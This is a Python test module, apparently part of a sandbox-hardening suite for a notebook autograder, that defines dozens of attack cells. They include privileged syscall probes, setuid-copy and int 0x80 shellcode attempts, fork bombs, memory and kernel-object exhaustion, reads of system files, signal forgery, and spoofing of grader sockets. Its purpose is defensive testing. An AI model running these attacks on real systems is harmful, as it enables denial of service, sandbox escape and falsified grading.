"""Attacks on the box: system calls, processes, memory, the kernel's objects, facts, and outputs."""

from nbformat.v4 import new_code_cell

from tests.attacks.attacks import FINGERS, LEAVE, LOOK, REACH, attack

# System calls

CALLS = "system calls"

CALL = (
    LOOK
    + """
import platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
column = {"x86_64": 0, "aarch64": 1}[platform.machine()]
PLACE = ctypes.create_string_buffer(4096)
def call(numbers, *args):
    if numbers[column] is None: return -38
    args = [ctypes.c_long(each) if isinstance(each, int) else each for each in args]
    answer = libc.syscall(ctypes.c_long(numbers[column]), *args)
    return answer if answer >= 0 else -ctypes.get_errno()
def closed(what, numbers, *args):
    answer = call(numbers, *args)
    print("OPENED" if answer >= 0 else "closed", what, answer)
def apart(what, do):
    # In a child, for a filter may end the process.
    sys.stdout.flush()
    child = os.fork()
    if child == 0:
        try: os._exit(0 if do() else 1)
        except BaseException: os._exit(1)
    print("OPENED" if os.waitpid(child, 0)[1] == 0 else "closed", what)
"""
)


def calling(name: str, tries: str, source: str) -> None:
    attack(CALLS, name, tries, start=CALL + source)


calling(
    "call-aio",
    "makes contexts of asynchronous files, of which the machine has few",
    "for _ in range(3): closed('io_setup', (206, 0), 65536, (ctypes.c_long * 1)(0))",
)
calling(
    "call-inotify",
    "watches folders, of which its user may have few",
    "closed('inotify_init1', (294, 26), 0)\nclosed('inotify_init', (253, None))",
)
calling(
    "call-dnotify",
    "watches by signals what others open in folders that all boxes see",
    """
import fcntl, signal
signal.signal(signal.SIGIO, lambda *_: None)
for path in (os.path.dirname(os.__file__), os.path.dirname(np.__file__), "/usr/lib", "/"):
    place = os.open(path, os.O_RDONLY)
    try: fcntl.fcntl(place, fcntl.F_NOTIFY, 0x80000001); print("OPENED", path)
    except OSError as error: print(error)
""",
)
calling(
    "call-leases",
    "takes leases and owners' rights of files that all boxes see",
    """
import fcntl
for path in (os.__file__, np.__file__, "/etc/passwd", sys.executable, "/usr/bin/env"):
    place = os.open(path, os.O_RDONLY)
    for kind in (fcntl.F_WRLCK, fcntl.F_RDLCK):
        try: fcntl.fcntl(place, fcntl.F_SETLEASE, kind); print("OPENED", path)
        except OSError as error: print(error)
    try: fcntl.fcntl(place, fcntl.F_SETOWN, int("@COORDINATOR@")); print(fcntl.fcntl(place, 9))
    except OSError as error: print(error)
""",
)
calling(
    "call-fanotify",
    "watches what the whole machine opens",
    "for flags in (0, 4, 8, 0x200): closed('fanotify_init', (300, 262), flags, 0)",
)
calling(
    "call-userfaultfd",
    "has the kernel wait for it at each page",
    """
for flags in (0, 1): closed('userfaultfd', (323, 282), flags)
attempt(lambda: print("OPENED", os.open("/dev/userfaultfd", os.O_RDWR)))
""",
)
calling(
    "call-keyrings",
    "leaves keys in the keyrings of its user, and reads those of others",
    """
name = b"ai4gov-attack-@NAME@\\0"
for ring in (-1, -2, -3, -4, -5):
    closed("add_key", (248, 217), b"user\\0", name, b"x", 1, ring)
    closed("keyctl", (250, 219), 11, ring, PLACE, 4096)
closed("request_key", (249, 218), b"user\\0", name, None, -4)
attempt(lambda: print("FACTS OF THE MACHINE" if read("/proc/keys") else ""))
""",
)
calling(
    "call-rulesets",
    "makes rules of Landlock and filters of its own, to take answers for other calls",
    """
rules = (ctypes.c_uint64 * 3)(1, 0, 0)
for _ in range(20): closed("landlock_create_ruleset", (444, 444), rules, 8, 0)
steps = ctypes.create_string_buffer(b"\\x06\\0\\0\\0\\0\\0\\xc0\\x7f")
program = (ctypes.c_ulong * 2)(1, ctypes.addressof(steps))
closed("seccomp with a listener", (317, 277), 1, 8, program)
""",
)
calling(
    "call-rings",
    "asks for rings of io_uring of each kind",
    """
for flags in (0, 1, 2, 0x40, 0x1000, 0x2000):
    shape = (ctypes.c_uint32 * 30)(0, 0, flags)
    closed("io_uring_setup", (425, 425), 1, shape)
for number in (426, 427): closed(str(number), (number, number), -1, 0, 0, 0, 0, 0)
""",
)
calling(
    "call-memory-files",
    "makes files in memory that no bound counts, and runs programs from them",
    """
for flags in (0, 1, 2, 4, 8): closed("memfd_create", (319, 279), b"x\\0", flags)
closed("memfd_secret", (447, 447), 0)
""",
)
calling(
    "call-programs",
    "runs copies of set-user-id programs by descriptors, links and file handles",
    """
import shutil
for program in ("/bin/su", "/usr/bin/passwd", "/usr/bin/newgrp", "/bin/mount", "/usr/bin/sudo"):
    try: shutil.copy(program, "copy"); os.chmod("copy", 0o6755)
    except OSError as error: print(error); continue
    for path in ("copy", program):
        place = os.open(path, os.O_RDONLY)
        child = os.fork()
        if child == 0:
            argv = (ctypes.c_char_p * 3)(b"x", b"--version", None)
            call((322, 281), place, b"\\0", argv, (ctypes.c_char_p * 1)(None), 0x1000)
            os._exit(1)
        os.waitpid(child, 0); os.close(place)
os.system("id -u; ./copy -c id")
print("IS ROOT" if 0 in os.getresuid() and os.access("/etc/shadow", os.R_OK) else "")
""",
)
calling(
    "call-ptrace-own",
    "follows and changes processes of its own, to go round what each of them may",
    """
closed("PTRACE_TRACEME", (101, 117), 0, 0, 0, 0)
child = os.fork()
if child == 0:
    time.sleep(30); os._exit(0)
for request in (16, 0x4206): closed("ptrace", (101, 117), request, child, 0, 0)
vector = (ctypes.c_ulong * 2)(ctypes.addressof(PLACE), 64)
closed("process_vm_readv", (310, 270), child, vector, 1, vector, 1, 0)
closed("process_vm_writev", (311, 271), child, vector, 1, vector, 1, 0)
attempt(lambda: print(len(open(f"/proc/{child}/mem", "rb").read(1))))
os.kill(child, 9); os.waitpid(child, 0)
""",
)
calling(
    "call-descriptors-of-processes",
    "takes descriptors and memory out of processes by descriptors of processes",
    """
for process in (os.getpid(), os.getppid() or 1, 1, int("@COORDINATOR@")):
    closed("pidfd_open", (434, 434), process, 0)
    closed("pidfd_getfd", (438, 438), process, 0, 0)
    closed("process_madvise", (440, 440), process, PLACE, 1, 4, 0)
    closed("process_mrelease", (448, 448), process, 0)
    closed("kcmp", (312, 272), process, process, 0, 0, 0)
""",
)
calling(
    "call-other-numbers",
    "makes calls by the numbers of x32 and with high halves in their numbers",
    """
if column == 0:
    for number in (39, 41, 101, 165, 272, 512, 520, 521, 540):
        apart(number, lambda: libc.syscall(ctypes.c_long(0x40000000 + number), 0, 0, 0) >= 0)
    for number in (101, 165, 272, 425):
        # Only the low half counts: it must not be taken for a call that is not listed.
        apart(number, lambda: libc.syscall(ctypes.c_long(number + (1 << 32)), 0, 0, 0) >= 0)
""",
)
calling(
    "call-by-interrupt",
    "makes calls of 32 bits by int 0x80",
    """
import mmap
if column == 0:
    # mov eax, N; xor ebx, ebx; int 0x80; ret, for getpid, ptrace, mount, unshare and clone.
    for number in (20, 26, 21, 310, 120, 384):
        place = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
                          prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        place.write(bytes.fromhex("53b8") + number.to_bytes(4, "little")
                    + bytes.fromhex("31dbcd805bc3"))
        address = ctypes.addressof(ctypes.c_char.from_buffer(place))
        apart(number, lambda: ctypes.CFUNCTYPE(ctypes.c_int)(address)() >= 0)
""",
)
calling(
    "call-segments",
    "changes segments, ports and the old page of system calls",
    """
if column == 0:
    closed("modify_ldt", (154, None), 0, PLACE, 4096)
    closed("iopl", (172, None), 3)
    closed("ioperm", (173, None), 0, 8, 1)
    closed("sysfs", (139, None), 3)
    old = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p)(0xFFFFFFFFFF600400)
    child = os.fork()
    if child == 0:
        old(None); os._exit(0)
    print("vsyscall", os.waitpid(child, 0)[1])
""",
)
calling(
    "call-personality",
    "has its address space laid out as it likes",
    "for what in (0x40000, 0x400000, 8, 0x100000): closed('personality', (135, 92), what)",
)
calling(
    "call-namespaces-by-clone",
    "makes namespaces by the calls that make processes",
    """
for flags in (0x10000000, 0x20000000, 0x40000000, 0x20000, 0x08000000, 0x04000000, 0x02000000):
    def make(flags=flags):
        answer = call((56, 220), flags | 17, 0, 0, 0, 0)
        if answer == 0: os._exit(0)
        return answer > 0
    apart(hex(flags), make)
arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
closed("clone3", (435, 435), arguments, 88)
for number in (272, 308): closed(str(number), (number, {272: 97, 308: 268}[number]), 0x10000000, 0)
""",
)
calling(
    "call-mounts-of-the-new-kind",
    "mounts by the newer calls, and lists what is mounted",
    """
closed("open_tree", (428, 428), -100, b"/\\0", 0x8000)
closed("fsopen", (430, 430), b"tmpfs\\0", 0)
closed("fspick", (433, 433), -100, b"/\\0", 0)
closed("move_mount", (429, 429), -100, b"/tmp\\0", -100, b"/home\\0", 0)
closed("mount_setattr", (442, 442), -100, b"/usr\\0", 0, (ctypes.c_uint64 * 4)(0, 1), 32)
asked = (ctypes.c_uint64 * 4)(24, 0xFFFFFFFFFFFFFFFF, 0, 0)
closed("listmount", (458, 458), asked, PLACE, 100, 0)
closed("statmount", (457, 457), asked, PLACE, 4096, 0)
""",
)
calling(
    "call-programs-of-the-kernel",
    "loads programs into the kernel and counts its events",
    """
for what in (0, 5, 18): closed("bpf", (321, 280), what, PLACE, 72)
described = (ctypes.c_uint32 * 32)(1, 128)
for process in (0, -1): closed("perf_event_open", (298, 241), described, process, -1, -1, 0)
""",
)
calling(
    "call-pages-of-others",
    "moves pages of memory, of its own and of others, between nodes",
    """
for process in (0, 1, int("@COORDINATOR@")):
    closed("move_pages", (279, 239), process, 0, 0, 0, 0, 0)
    closed("migrate_pages", (256, 238), process, 64, PLACE, PLACE)
closed("set_mempolicy", (238, 237), 0, 0, 0)
closed("mbind", (237, 235), 0, 0, 0, 0, 0, 0)
""",
)
calling(
    "call-splices",
    "moves pages between pipes and files, by which read-only files were written once",
    """
reader, writer = os.pipe()
place = os.open(os.__file__, os.O_RDONLY)
closed("splice", (275, 76), place, 0, writer, 0, 1, 0)
closed("tee", (276, 77), reader, writer, 1, 0)
closed("vmsplice", (278, 75), writer, (ctypes.c_ulong * 2)(ctypes.addressof(PLACE), 1), 1, 8)
""",
)
calling(
    "call-shared-objects",
    "shares memory, semaphores and messages that outlive it",
    """
closed("shmget", (29, 194), 0x5eed, 4096, 0o1666)
closed("semget", (64, 190), 0x5eed, 1, 0o1666)
closed("msgget", (68, 186), 0x5eed, 0o1666)
closed("mq_open", (240, 180), b"ai4gov-attack-@NAME@\\0", 0o102, 0o666, 0)
""",
)
calling(
    "call-for-administrators",
    "asks for what only administrators may do to the machine",
    """
for what, *numbers in (("quotactl", 179, 60), ("swapon", 167, 224), ("acct", 163, 89),
                       ("syslog", 103, 116), ("reboot", 169, 142), ("init_module", 175, 105),
                       ("finit_module", 313, 273), ("kexec_load", 246, 104),
                       ("settimeofday", 164, 170), ("clock_settime", 227, 112),
                       ("sethostname", 170, 161), ("vhangup", 153, 58), ("nfsservctl", 180, 42),
                       ("quotactl_fd", 443, 443), ("sync", 162, 81), ("syncfs", 306, 267)):
    closed(what, numbers, 10, 0, 0, 0, 0, 0)
""",
)
calling(
    "call-newer-than-the-list",
    "makes each call that the kernel has got in the last years",
    """
for number in (424, 434, 435, 438, 440, 443, 444, 445, 446, 447, 448, 450, 451, 453, 454, 455, 456,
               457, 458, 459, 460, 461, 462, 463, 464, 465, 466, 467, 468, 469, 470, 471, 472):
    # An address of its own, so that what is refused is the call and not its arguments.
    answer = call((number, number), ctypes.addressof(PLACE), 0, 0, 0, 0, 0)
    print("closed" if answer in (-1, -38) else "OPENED", number, answer)
""",
)
calling(
    "call-terminals",
    "opens terminals, types into them and takes them for its own",
    """
import fcntl, termios
for path in ("/dev/ptmx", "/dev/pts/ptmx", "/dev/tty", "/dev/console", "/dev/tty1", "/dev/vcs"):
    try: place = os.open(path, os.O_RDWR | os.O_NOCTTY); print("OPENED", path)
    except OSError as error: print(error)
for number in range(3):
    for what in (termios.TIOCSTI, 0x541C, termios.TIOCSCTTY, termios.TIOCCONS):
        try: fcntl.ioctl(number, what, b"x"); print("OPENED", number, what)
        except OSError as error: print(error)
""",
)
calling(
    "call-own-rights",
    "changes by prctl what its process may, may keep and may get back",
    """
for what, *args in (("securebits", 28, 0x2f), ("ambient", 47, 2, 1), ("memory map", 35, 1, 0),
                    ("a filter", 22, 2, 0), ("strict", 22, 1), ("new privileges", 38, 0)):
    if what == "strict": continue
    closed(what, (157, 167), *args, 0, 0, 0)
print("OPENED keeps rights" if libc.prctl(7, 0, 0, 0, 0) > 0 else "")
print("OPENED new privileges" if libc.prctl(39, 0, 0, 0, 0) != 1 else "")
header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
closed("capset", (126, 91), header, data)
rights = ["CapInh", "CapPrm", "CapEff", "CapAmb"]
# An ordinary user without namespaces cannot empty the bounding set. It gives nothing to a process
# that may not gain new rights, which is asked above.
rights += ["CapBnd"] if "@RIGHTS@" == "all dropped" else []
for line in read("/proc/self/status").splitlines():
    name, _, value = line.partition(":")
    if name in rights and int(value, 16):
        print("OPENED", line)
    if name == "Seccomp" and value.strip() != "2": print("OPENED", line)
""",
)
calling(
    "call-priorities",
    "puts itself before all others, on each processor and disk",
    """
scheduled = (ctypes.c_uint32 * 14)(56, 6, 0, 0, 0, 0, 0, 0, 10**7, 0, 10**7, 0, 10**7, 0)
closed("sched_setattr", (314, 274), 0, scheduled, 0)
closed("ioprio_set", (251, 30), 1, 0, 1 << 13)
for policy in (1, 2, 6):
    try: os.sched_setscheduler(0, policy, os.sched_param(1)); print("OPENED", policy)
    except OSError as error: print(error)
for which in (os.PRIO_PROCESS, os.PRIO_PGRP, os.PRIO_USER):
    before = os.getpriority(which, 0)
    try: os.setpriority(which, 0, before - 1)
    except OSError as error: print(error)
    if os.getpriority(which, 0) < before: print("OPENED", which)
for folder in ("cpu", "memory", "pids", "."):
    attempt(lambda: print("OPENED", open(f"/sys/fs/cgroup/{folder}/cgroup.procs", "w").write("0")))
""",
)
calling(
    "call-victims",
    "has the kernel end others before itself when memory is short",
    """
before = int(read("/proc/self/oom_score_adj")) if os.path.exists("/proc/self") else 0
for name, worth in (("oom_score_adj", -1000), ("oom_score_adj", 0), ("oom_adj", -17)):
    attempt(lambda: open(f"/proc/self/{name}", "w").write(str(worth)))
if os.path.exists("/proc/self") and int(read("/proc/self/oom_score_adj")) < before:
    print("OPENED")
""",
)

# Facts

FACTS = "facts of the machine and of the class"

attack(
    FACTS,
    "facts-in-proc",
    "reads what the kernel tells of the machine in /proc and /sys",
    start=LOOK
    + """
paths = ["/proc/cmdline", "/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/proc/net/tcp",
         "/proc/net/unix", "/proc/loadavg", "/proc/stat", "/proc/version", "/proc/diskstats",
         "/proc/partitions", "/proc/sys/kernel/random/boot_id", "/proc/sched_debug", "/proc/crypto",
         "/proc/sys/kernel/hostname", "/proc/interrupts", "/proc/timer_list", "/proc/locks",
         "/sys/class/dmi/id/product_uuid", "/sys/kernel/notes", "/sys/class/net/eth0/address",
         "/etc/machine-id", "/etc/hostname", "/var/log/dmesg", "/etc/resolv.conf"]
for path in paths:
    try: print("FACTS OF THE MACHINE" if read(path) else "", path)
    except OSError as error: print(error)
""",
)
attack(
    FACTS,
    "facts-of-mounts",
    "reads where the course lies from what is mounted, mapped and open",
    start=LOOK
    + """
import glob
for path in ("mounts", "mountinfo", "mountstats", "maps", "smaps", "cgroup", "cmdline", "environ",
             "status", "limits", "auxv", "numa_maps", "fdinfo/0", "fdinfo/1", "attr/current"):
    try: text = read(f"/proc/self/{path}")
    except OSError as error: print(error); continue
    if "@COURSE@" in text: print("FACTS OF THE MACHINE", path)
for path in glob.glob("/proc/self/fd/*") + glob.glob("/proc/self/map_files/*"):
    try: print("FACTS OF THE MACHINE" if "@COURSE@" in os.readlink(path) else "", path)
    except OSError as error: print(error)
print("FACTS OF THE MACHINE" if os.uname().nodename == "@HOST@" else "")
""",
)
attack(
    FACTS,
    "facts-of-processes",
    "lists the processes of the machine, and tries their numbers",
    start=LOOK
    + """
for number in [*os.listdir("/proc"), "@COORDINATOR@"]:
    try: command = read(f"/proc/{number}/cmdline")
    except OSError: continue
    if "measure" in command: print("FACTS OF THE MACHINE", command)
""",
)
attack(
    FACTS,
    "facts-of-devices",
    "opens the devices of the machine: memory, disks, logs, clocks and cameras",
    start=LOOK
    + """
for name in ("mem", "port", "kmsg", "sda", "vda", "nvme0n1", "loop0", "loop-control", "fuse",
             "kvm", "net/tun", "rtc0", "video0", "snd/timer", "input/event0", "dri/card0", "hpet",
             "mapper/control", "vhost-net", "cpu/0/msr", "watchdog", "uinput", "vsock", "autofs"):
    for flags in (os.O_RDONLY, os.O_RDWR):
        try: print("OPENED", name, os.open("/dev/" + name, flags | os.O_NONBLOCK))
        except OSError as error: print(error)
""",
)
attack(
    FACTS,
    "facts-of-learners",
    "guesses the names of others and looks for what they left in shared places",
    start=LOOK
    + """
import glob, tempfile
for name in ("m-other", "a-whole", "z-whole", "canary"):
    for top in ("@COURSE@/submitted", "@COURSE@/autograded", "..", "../..", "/home", "/tmp"):
        walk(f"{top}/{name}")
for top in (tempfile.gettempdir(), "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")):
    for path in glob.glob(top + "/**", recursive=True): print(path)
""",
)
SHARED = """
import os, stat, sys, fcntl, glob, tempfile
MAGIC = 0x5EED
found = []
for number in range(3, 256):
    try: about = os.fstat(number)
    except OSError: continue
    if stat.S_ISREG(about.st_mode):
        try:
            if os.lseek(number, 0, os.SEEK_CUR) == MAGIC: found.append(number)
            os.lseek(number, MAGIC, os.SEEK_SET)
        except OSError: pass
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/home/learner", sys.prefix, "/usr/tmp",
               os.path.expanduser("~/.cache"), os.environ.get("MPLCONFIGDIR", "/tmp")):
    path = folder + "/left-for-others"
    if os.path.exists(path): found.append(path)
    try:
        os.makedirs(folder, exist_ok=True)
        open(path, "w").close()
    except OSError: pass
for module in (np, pd, sys, os):
    if hasattr(module, "left_for_others"): found.append(module)
    module.left_for_others = True
print("STATE OF ANOTHER" if found else "nothing", found)
"""
for each in ("first", "second"):
    attack(
        FACTS,
        f"shared-state-{each}",
        f"leaves marks in all that boxes share, and looks for those of others ({each} of two)",
        start=SHARED,
    )

# Processes and clocks

PROCESSES = "processes and clocks"

attack(
    PROCESSES,
    "busy-sessions",
    "keeps all processors busy with processes in sessions of their own",
    end="""
import os
for _ in range(40):
    if os.fork() == 0:
        os.setsid()
        try: os.nice(-20)
        except OSError: pass
        while True: pass
while True: pass
""",
)
attack(
    PROCESSES,
    "busy-threads",
    "keeps all processors busy with threads that compute in C",
    end="""
import threading
def work():
    big = np.ones((600, 600))
    while True: big @ big
for _ in range(20): threading.Thread(target=work, daemon=True).start()
work()
""",
)
attack(
    PROCESSES,
    "busy-children-alone",
    "ends its cell at once and lets children compute while tests run",
    start="""
import os
for _ in range(20):
    if os.fork() == 0:
        while True: pass
""",
)
attack(
    PROCESSES,
    "alarms-without-end",
    "is interrupted by its own timers without end while tests run",
    start="""
import signal
def again(*_): pass
for number in (signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF): signal.signal(number, again)
for which in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
    signal.setitimer(which, 1e-4, 1e-4)
""",
)
attack(
    PROCESSES,
    "deaf-to-all-signals",
    "blocks all signals, in threads and children too",
    end="""
import os, signal, threading
everything = set(range(1, 65)) - {9, 19, 32, 33}
signal.pthread_sigmask(signal.SIG_BLOCK, everything)
signal.signal(signal.SIGINT, signal.SIG_IGN); signal.signal(signal.SIGTERM, signal.SIG_IGN)
if os.fork() == 0:
    while True: signal.sigtimedwait(everything, 100)
while True: pass
""",
)
attack(
    PROCESSES,
    "stopped-children",
    "stops its children while they hold its output, and leaves them so",
    end="""
import os, signal
for _ in range(5):
    if os.fork() == 0:
        signal.signal(signal.SIGCONT, signal.SIG_IGN)
        while True: os.kill(os.getpid(), signal.SIGSTOP)
""",
)
attack(
    PROCESSES,
    "signals-without-number",
    "sends signals to everything that it can reach, forged as if others sent them",
    start="""
import ctypes, os, signal
libc = ctypes.CDLL(None)
told = (ctypes.c_int * 32)(10, 0, -6, 0, int("@COORDINATOR@"))
for _ in range(2000):
    for process in (1, os.getppid() or 1, int("@COORDINATOR@")):
        if process not in (os.getpid(), 0):
            for number in (signal.SIGUSR1, signal.SIGCHLD, signal.SIGWINCH):
                libc.syscall(129, process, int(number), told)
                try: os.kill(process, number)
                except OSError: pass
""",
)
attack(
    PROCESSES,
    "rolling-fork",
    "forks and ends without end, so that it is never the same process",
    end=LEAVE
    + REACH
    + """
import os, time
def roll():
    ends = time.monotonic() + 20
    while time.monotonic() < ends:
        if os.fork(): os._exit(0)
    leave()
    os._exit(0)
for _ in range(4):
    if os.fork() == 0: roll()
""",
)
attack(
    PROCESSES,
    "fork-by-programs",
    "starts programs that start themselves twice",
    end="""
import subprocess, sys
program = "b() { b | b & }; b"
for command in (["sh", "-c", program], ["bash", "-c", program],
                [sys.executable, "-Sc", "import os\\nwhile 1: os.fork()"]):
    try: subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError as error: print(error)
""",
)
attack(
    PROCESSES,
    "fork-by-spawning",
    "starts processes by posix_spawn, vfork and pools without end",
    end="""
import concurrent.futures, ctypes, multiprocessing, os, sys
try:
    for _ in range(3000): os.posix_spawn("/bin/sleep", ["sleep", "60"], os.environ)
except OSError as error: print(error)
try: multiprocessing.get_context("fork").Process(target=print).start()
except OSError as error: print(error)
""",
)
attack(
    PROCESSES,
    "fork-in-test",
    "forks without end when a test calls it",
    total="""
def total(values, weight):
    import os
    for _ in range(8):
        try: os.fork()
        except OSError: pass
    return 0
""",
)
attack(
    PROCESSES,
    "dead-children",
    "leaves as many dead children as there can be processes",
    start="""
import os
made = 0
try:
    for made in range(40_000):
        if os.fork() == 0: os._exit(0)
except OSError as error: print(error)
print("KERNEL BEYOND THE BOUND" if made > 20_000 else "bounded", made)
""",
)
attack(
    PROCESSES,
    "another-program-instead",
    "becomes another program that holds the sockets and answers for it",
    start="""
import fcntl, os, stat, sys
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode): os.set_inheritable(number, True)
    except OSError: pass
code = '''
import json, os, socket, stat, struct, time
def frame(header):
    told = json.dumps(header).encode()
    return struct.pack("!II", len(told), 0) + told
socks = []
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode): socks.append(socket.socket(fileno=number))
    except OSError: pass
for turn in range(1, 400):
    for each in socks:
        try:
            for kind in ("cell", "test", "entered", "files"):
                each.send(frame({"did": kind, "index": turn % 14, "status": "ok", "outputs": [],
                                 "execution_count": 1, "parts": []}), socket.MSG_DONTWAIT)
            each.send(frame({"n": turn, "values": [[3.0, 0]], "changed": [], "parts": []}),
                      socket.MSG_DONTWAIT)
        except OSError: pass
    time.sleep(0.005)
'''
os.execv(sys.executable, [sys.executable, "-Sc", code])
""",
)

# Memory

MEMORY = "memory and the kernel's objects"

attack(
    MEMORY,
    "memory-in-all-folders",
    "fills each folder that lies in memory, and maps what it has written",
    end="""
import mmap, os
written = 0
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/etc", "/old"):
    try:
        for number in range(30):
            with open(f"{folder}/ai4gov-attack-@NAME@{number}", "wb+") as file:
                for _ in range(30): written += file.write(b"x" * 2_000_000)
    except OSError as error: print(folder, error)
print("DISK BEYOND THE BOUND" if written > 1_100_000_000 else "bounded", written)
""",
)
attack(
    MEMORY,
    "memory-by-mapping",
    "maps memory in each way that bounds may forget",
    end="""
import ctypes, mmap, os
held, taken = [], 0
for flags in (0x22, 0x4022, 0x122, 0x40022, 0x8022, 0x100022, 0x21, 0x4021):
    for _ in range(8):
        try:
            held.append(mmap.mmap(-1, 100_000_000, flags=flags))
            held[-1].write(b"x" * 100_000_000)
            taken += 100_000_000
        except (OSError, ValueError, MemoryError) as error: print(hex(flags), error); break
print("MEMORY BEYOND THE BOUND" if taken > 1_200_000_000 else "bounded", taken)
""",
)
attack(
    MEMORY,
    "memory-of-private-files",
    "maps files privately and writes into each page",
    end="""
import mmap, os
held, taken = [], 0
with open("big.bin", "wb") as file: file.truncate(60_000_000)
file = open("big.bin", "rb")
try:
    for _ in range(30):
        held.append(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_COPY))
        for place in range(0, 60_000_000, 4096): held[-1][place] = 1
        taken += 60_000_000
except (OSError, ValueError, MemoryError) as error: print(error)
print("MEMORY BEYOND THE BOUND" if taken > 1_200_000_000 else "bounded", taken)
""",
)
attack(
    MEMORY,
    "memory-in-pipes",
    "keeps memory in pipes, which are filled and never read",
    end="""
import fcntl, os
held, taken = [], 0
try:
    while taken < 2 * 10**9:
        reader, writer = os.pipe()
        held.append(reader)
        try: fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, 2**20)
        except OSError: pass
        os.set_blocking(writer, False)
        while True:
            try: taken += os.write(writer, b"x" * 65536)
            except BlockingIOError: break
except OSError as error: print(error)
print("MEMORY BEYOND THE BOUND" if taken > 1_100_000_000 else "bounded", taken)
""",
)
attack(
    MEMORY,
    "memory-in-sockets",
    "keeps memory in sockets, and descriptors in flight in them",
    end="""
import os, socket
held, taken, flying = [], 0, 0
try:
    while taken < 2 * 10**9:
        pair = socket.socketpair(type=socket.SOCK_DGRAM)
        held.append(pair)
        for each in pair:
            each.setblocking(False)
            each.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
            try:
                while True:
                    taken += each.send(b"x" * 60_000)
                    socket.send_fds(each, [b"x"], [0] * 250)
                    flying += 250
            except OSError: pass
except OSError as error: print(error)
print("MEMORY BEYOND THE BOUND" if taken > 1_100_000_000 else "bounded", taken)
print("KERNEL BEYOND THE BOUND" if flying > 2_000_000 else "bounded", flying)
""",
)
attack(
    MEMORY,
    "memory-locked",
    "locks memory, asks for large pages and for pages that are joined",
    end="""
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
for flags in (1, 2, 3, 7): print(libc.mlockall(flags), ctypes.get_errno())
for size in (21, 30):
    try: mmap.mmap(-1, 2**30, flags=0x40022 | size << 26); print("OPENED")
    except (OSError, ValueError) as error: print(error)
for advice in (12, 14, 24, 100, 101): print(libc.madvise(0, 0, advice), ctypes.get_errno())
held = []
try:
    for _ in range(40):
        held.append(mmap.mmap(-1, 50_000_000, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x2000))
except (OSError, MemoryError) as error: print(error)
print("MEMORY BEYOND THE BOUND" if len(held) == 40 else "bounded", len(held))
""",
)
attack(
    MEMORY,
    "memory-in-stacks",
    "starts threads with stacks of a gigabyte, and fills them",
    end="""
import resource, sys, threading
for size in (2**30, 2**28):
    try:
        threading.stack_size(size)
        threads = [threading.Thread(target=lambda: bytearray(10**7)) for _ in range(60)]
        for each in threads: each.start()
    except (RuntimeError, ValueError, OSError) as error: print(error)
""",
)
attack(
    MEMORY,
    "memory-of-names",
    "has the kernel remember a hundred thousand names that there are not",
    end="""
import os
for number in range(100_000):
    try: os.stat(f"/tmp/none-{number}-" + "x" * 200)
    except OSError: pass
""",
)
attack(
    MEMORY,
    "kernel-objects",
    "makes timers, events, signals and sets of waits without number",
    end="""
import os, select, ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
held, made = [], 0
column = {"x86_64": 0, "aarch64": 1}[platform.machine()]
mask = (ctypes.c_uint64 * 1)(0xFFFF)
for numbers, args in (((283, 85), (0, 0)), ((290, 19), (0, 0)), ((289, 74), (-1, mask, 8, 0)),
                      ((291, 20), (0,))):
    while (number := libc.syscall(numbers[column], *args)) >= 0:
        held.append(number); made += 1
    for number in held: os.close(number)
    held.clear()
sets = [select.epoll() for _ in range(100)]
for first in sets:
    for second in sets[:60]:
        try: first.register(second.fileno())
        except OSError: break
place = (ctypes.c_int * 1)()
timers = 0
while timers < 200_000 and libc.syscall((222, 107)[column], 1, None, place) == 0: timers += 1
print("KERNEL BEYOND THE BOUND" if timers >= 200_000 or made > 200_000 else "bounded", timers, made)
""",
)
attack(
    MEMORY,
    "kernel-locks",
    "takes three thousand locks on parts of files",
    end="""
import fcntl, os, struct
place = os.open("locked.bin", os.O_RDWR | os.O_CREAT)
taken = 0
try:
    for taken in range(3_000):
        fcntl.lockf(place, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * taken)
except OSError as error: print(error)
print(taken)
""",
)
attack(
    MEMORY,
    "descriptors-again",
    "opens for writing the files that it has for reading, also by their links in /proc/self",
    start=LOOK
    + """
import glob
places = [os.__file__, np.__file__, sys.executable, "/usr/bin/env", "/etc/passwd", "/etc/hosts"]
for path in places:
    number = os.open(path, os.O_RDONLY)
    for again in (path, f"/proc/self/fd/{number}", f"/dev/fd/{number}"):
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC | os.O_APPEND):
            try: os.open(again, flags); print("OPENED", again)
            except OSError: pass
for path in glob.glob("/proc/self/fd/*") + ["/proc/self/exe", "/proc/self/root/etc/passwd"]:
    try: target = os.readlink(path)
    except OSError: continue
    if target.startswith(("/usr", "/etc", "/lib", sys.prefix)):
        try: os.open(path, os.O_RDWR); print("OPENED", target)
        except OSError: pass
""",
)
attack(
    MEMORY,
    "descriptors-received",
    "waits at each socket for descriptors, and takes the requests of the grader away",
    start=FINGERS
    + """
def take(each):
    try:
        data, found, _, _ = socket.recv_fds(each, 65536, 253)
        print("OPENED" if found else "", found)
        each.send(frame({"n": 1, "did": "cell", "index": 3, "status": "ok", "outputs": [],
